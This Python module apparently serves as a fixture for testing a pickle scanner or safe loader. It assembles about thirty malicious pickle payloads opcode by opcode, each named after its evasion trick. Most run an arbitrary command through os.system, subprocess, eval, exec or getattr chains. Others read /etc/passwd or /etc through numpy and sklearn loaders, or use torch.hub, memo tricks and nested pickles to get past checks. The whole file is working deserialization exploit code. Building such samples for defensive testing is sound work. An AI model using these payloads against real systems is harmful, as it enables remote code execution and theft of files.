"""Pickles put together opcode by opcode: what no library writes, and an attacker may."""

from __future__ import annotations

import pickle
import struct


def text(word: str) -> bytes:
    """Pushes a short string (protocol 4)."""
    raw = word.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def named(module: str, name: str) -> bytes:
    """Pushes a global, from the stack."""
    return text(module) + text(name) + b"\x93"


def named_in_line(module: str, name: str) -> bytes:
    """Pushes a global, from the opcode's own lines (protocol 0)."""
    return f"c{module}\n{name}\n".encode()


def call(function: bytes, *arguments: bytes) -> bytes:
    """Pushes what ``function`` gives."""
    return function + b"(" + b"".join(arguments) + b"tR"


def whole(*parts: bytes, protocol: int = 4) -> bytes:
    """A pickle that ends with the top of the stack."""
    return b"\x80" + bytes([protocol]) + b"".join(parts) + b"."


def attacks(command: str) -> dict[str, bytes]:
    """Ways to run ``command``, each under the name of its trick."""
    word = text(command)
    system = named("os", "system")
    memo = text("os") + b"\x94" + text("system") + b"\x94" + b"00" + b"h\x00h\x01\x93"
    halves = b"(" + text("os") + text("system") + b"l" + b"0"
    return {
        "reduce": whole(call(system, word)),
        "reduce, protocol 0": b"cos\nsystem\n(S'" + command.encode() + b"'\ntR.",
        "posix": whole(call(named("posix", "system"), word)),
        "subprocess": whole(call(named("subprocess", "check_output"), word)),
        "eval": whole(call(named("builtins", "eval"), text("__import__('os')"))),
        "exec": whole(call(named("__builtin__", "exec"), text("import os"))),
        "import": whole(call(named("builtins", "__import__"), text("os"))),
        "getattr": whole(
            call(
                call(
                    named("builtins", "getattr"),
                    call(named("builtins", "__import__"), text("os")),
                    text("system"),
                ),
                word,
            )
        ),
        "from the memo": whole(memo + b"(" + word + b"tR"),
        "popped and duplicated": whole(
            halves + text("os") + b"2" + b"0" + text("system") + b"\x93(" + word + b"tR"
        ),
        "instance": b"(S'" + command.encode() + b"'\nios\nsystem\n.",
        "object": b"(cos\nsystem\nS'" + command.encode() + b"'\no.",
        "extension": whole(b"\x82\x01"),
        "wide extension": whole(b"\x84" + struct.pack("<i", 70000)),
        "what a package imported": whole(call(named("sklearn.utils", "os.system"), word)),
        "an attribute's attribute": whole(
            call(named("sklearn.pipeline", "Pipeline.__init__.__globals__"), word)
        ),
        "a function of a package": whole(
            call(named("sklearn.datasets", "load_files"), text("/etc"))
        ),
        "a test's helper": whole(call(named("sklearn.utils._testing", "TempMemmap"), word)),
        "numpy's loader": whole(call(named("numpy", "load"), text("/etc/passwd"))),
        "torch's loader": whole(call(named("torch.storage", "_load_from_bytes"), word)),
        "torch's hub": whole(call(named("torch.hub", "load"), word)),
        "a dotted builtin": whole(call(named("builtins", "str.format"), word)),
        "code": whole(call(named("types", "CodeType"), word)),
        "partial": whole(call(named("functools", "partial"), system, word)),
        "operator": whole(call(named("operator", "attrgetter"), text("system"))),
        "persistent": b"Pos.system\n.",
        "as a default": whole(call(named("collections", "defaultdict"), system)),
        "a pickle in a pickle": whole(
            call(named("pickle", "loads"), b"C" + bytes([8]) + pickle.dumps(1)[:8])
        ),
        "built on a builtin": whole(named("builtins", "dict") + b"}" + word + b"K\x01sb"),
        "a name that is no text": whole(text("os") + b"K\x01" + b"\x93"),
        "in bytes": whole(b"C\x02os" + b"C\x06system" + b"\x93" + b"(" + word + b"tR"),
        "joblib's wrapper, then objects": whole(
            call(named("joblib.numpy_pickle", "NumpyArrayWrapper"))
            + b"}"
            + b"("
            + text("dtype")
            + call(named("numpy", "dtype"), text("O8"))
            + text("shape")
            + b"K\x01\x85"
            + b"u"
            + b"b"
        )[:-1]
        + whole(call(system, word))
        + b".",
    }
